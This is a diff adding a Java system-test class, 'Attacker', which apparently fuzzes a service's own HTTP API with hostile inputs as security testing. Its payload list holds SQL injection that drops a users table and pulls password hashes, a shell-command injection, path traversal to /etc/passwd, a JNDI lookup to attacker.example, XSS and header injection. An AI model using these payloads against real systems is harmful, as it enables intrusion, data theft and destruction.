@@ -1,0 +1,75 @@
+package com.flowex.systemtests;
+
+import java.io.IOException;
+import java.net.URI;
+import java.net.URLEncoder;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.List;
+
+/** A client that keeps to no contract. */
+final class Attacker {
+
+    /** Each of these is code, a path, a header or an end of a text to somebody. */
+    static final List<String> PAYLOADS = List.of(
+            "' OR '1'='1",
+            "'; DROP TABLE identity.users; --",
+            "1; SELECT pg_sleep(30)",
+            "\" || (SELECT version()) || \"",
+            "%' AND 1=CAST((SELECT password_hash FROM identity.users LIMIT 1) AS int)--",
+            "$(touch /tmp/flowex-was-here)",
+            "../../../../etc/passwd",
+            "${jndi:ldap://attacker.example/a}",
+            "{{7*7}}#{7*7}",
+            "<script>alert(1)</script>",
+            "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
+            "a\u0000b",
+            "\ud800",
+            "\u202e\u0009\ufeff",
+            "-1",
+            "9".repeat(40),
+            "A".repeat(5_000));
+
+    private static final HttpClient HTTP =
+            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
+
+    private final URI url;
+    private final String token;
+
+    /** @param token empty for nobody */
+    Attacker(URI url, String token) {
+        this.url = url;
+        this.token = token;
+    }
+
+    static String encoded(String text) {
+        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
+    }
+
+    /** @param body JSON in ASCII, or empty */
+    HttpResponse<String> send(String method, String path, String body) {
+        HttpRequest.Builder request = HttpRequest.newBuilder(url.resolve(path))
+                .timeout(Duration.ofSeconds(20))
+                .header("X-Rate-Tier", "benchmark")
+                .header("Content-Type", "application/json")
+                .method(
+                        method,
+                        body.isEmpty()
+                                ? HttpRequest.BodyPublishers.noBody()
+                                : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.US_ASCII));
+        if (!token.isEmpty()) {
+            request.header("Authorization", "Bearer " + token);
+        }
+        try {
+            return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
+        } catch (IOException e) {
+            throw new AssertionError("no answer to " + method + " " + path + " " + body, e);
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
+            throw new AssertionError(e);
+        }
+    }
+}
